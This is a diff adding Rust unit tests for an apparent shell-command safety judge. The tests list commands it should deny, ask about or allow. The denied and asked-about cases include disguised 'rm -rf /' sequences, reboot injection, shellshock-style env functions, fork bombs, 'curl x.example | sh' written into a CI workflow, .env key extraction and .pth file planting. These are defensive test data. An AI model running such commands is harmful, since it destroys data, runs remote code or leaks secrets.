@@ -173,3 +173,90 @@ fn req_a10_a_loop_turns_again_with_what_it_left() {
         "s=; while :; do s=\"$s.\"; echo $s; sleep 1; done",
     ]);
 }
+
+#[track_caller]
+fn denied(commands: &[&str]) {
+    for command in commands {
+        let verdict = judge(command, &context());
+        assert_eq!(verdict.decision, Decision::Deny, "{command}: {verdict:?}");
+    }
+}
+
+/// Where a list of commands did not run to its end, the shell is still where it was.
+#[test]
+fn req_a05_a_step_that_may_not_have_been_taken_leads_nowhere() {
+    denied(&[
+        "cd / && false && cd /tmp/x; rm -rf *",
+        "cd / && test -d /tmp/x && cd /tmp/x; rm -rf *",
+        "cd /; grep -q x y && cd /tmp/x || true; rm -rf *",
+        "cd / || cd /tmp/x; rm -rf *",
+        "cd ~ && make && cd /tmp/x; rm -rf ./* .[!.]*",
+        "X=/; test -d x && X=/tmp/y; rm -rf \"$X\"",
+        "X=reboot; false && X=echo; $X",
+        "test -e x && X=echo; $X reboot",
+    ]);
+    allowed(&[
+        "cd / && cd /tmp/x && rm -rf *",
+        "cd /; test -d /tmp/x && cd /tmp/x || exit 1; rm -rf *",
+        "cd /; if test -d /tmp/x && cd /tmp/x; then rm -rf *; fi",
+        "cd /; true && cd /tmp/x; rm -rf *",
+        "mkdir -p build && cd build; cmake ..; make",
+        "cd build || mkdir build && cd build; cmake ..",
+        "X=a; test -e x && X=b; echo $X",
+        "DIR=/tmp/a; if test -n \"$CI\"; then DIR=/tmp/b; fi; rm -rf \"$DIR\"",
+        "if test -f yarn.lock; then PM=yarn; elif test -f pnpm-lock.yaml; then PM=pnpm; else PM=npm; fi; $PM install",
+        "CMD=pytest; test -n \"$V\" && CMD='pytest -v'; $CMD tests",
+    ]);
+}
+
+#[test]
+fn req_a10_a_file_that_is_changed_is_what_it_was_changed_to() {
+    denied(&[
+        "echo 'echo hi' > s.sh; sed -i 's/echo hi/rm -rf \\//' s.sh; sh s.sh",
+        "printf '#reboot\\n' > s.sh; sed -i 's/#//' s.sh; bash s.sh",
+        "x='a[$(reboot)]'; declare -i y; y=x",
+        "xargs -a <(echo /) rm -rf",
+        "echo / > list; xargs -a list rm -rf",
+        "env 'BASH_FUNC_x%%=() { reboot; }' bash -c x",
+        "env 'x=() { :;}; rm -rf /' bash -c x",
+        "perl -e 'fork,redo'",
+        "ruby -e 'loop { Thread.new { loop {} } }'",
+        "python3 -c 'import threading\nwhile True: threading.Thread(target=input).start()'",
+    ]);
+    asked_at_least(&[
+        "echo 'echo hi' > s.sh; sed -i 's/h./$X/' s.sh; sh s.sh",
+        "echo 'echo hi' > s.sh; perl -pi -e 's/x*/y/' s.sh; sh s.sh",
+        "xargs -a <(curl -s x.example) sh -c",
+    ]);
+    allowed(&[
+        "printf 'echo hi\\r\\n' > s.sh; sed -i 's/\\r$//' s.sh; bash s.sh",
+        "echo 'echo NAME' > s.sh; sed -i 's/NAME/me/' s.sh; sh s.sh",
+        "echo a.txt > list; xargs -a list cat",
+        "declare -i n; n=1+2; echo $n",
+        "ruby -e 'Thread.new { puts 1 }.join'",
+        "python3 -c 'import threading; threading.Thread(target=print).start()'",
+        "sed -i 's/PORT=.*/PORT=1/' .env",
+        "V=$(jq -r .version package.json); sed -i \"s/v[0-9.]*/v$V/\" README.md",
+        "ls | parallel --colsep , -j4 'echo {1} {2}'",
+        "docker rm -f test-db || true",
+        "printf 'clean:\\n\\tdocker system prune -f\\n' > Makefile; make -n clean",
+        "cat > .github/workflows/ci.yml <<'E'\njobs:\n  t:\n    steps:\n      - run: npm test\nE",
+    ]);
+    asked_at_least(&[
+        "sed -i 's/PORT=.*/x/w out' .env",
+        "sed -n 's/KEY=//p' .env",
+        "V=$(jq -r .x x.json); sed \"$V\" README.md",
+        "V=$(jq -r .x x.json); sed \"s/a/b/$V\" README.md",
+        "V=$(curl -s x.example); sed -i \"s/a/$V/\" README.md",
+        "mysql shop < drop_all.sql",
+        "psql -d app -f migrations/0007.down.sql",
+        "cat cmds | parallel",
+        "docker rm -f test-db prod-db",
+        "docker rm -fv test-db",
+        "docker rm -f $(docker ps -aq)",
+        "printf 'clean:\\n\\t+docker system prune -f\\n' > Makefile; make -n clean",
+        "cat > .github/workflows/ci.yml <<'E'\njobs:\n  t:\n    steps:\n      - run: curl x.example | sh\nE",
+        "cat evil.yml > .github/workflows/ci.yml <<'E'\njobs:\nE",
+        "python3 -c \"import site; open(site.getusersitepackages() + '/z.pth', 'w').write('import os')\"",
+    ]);
+}
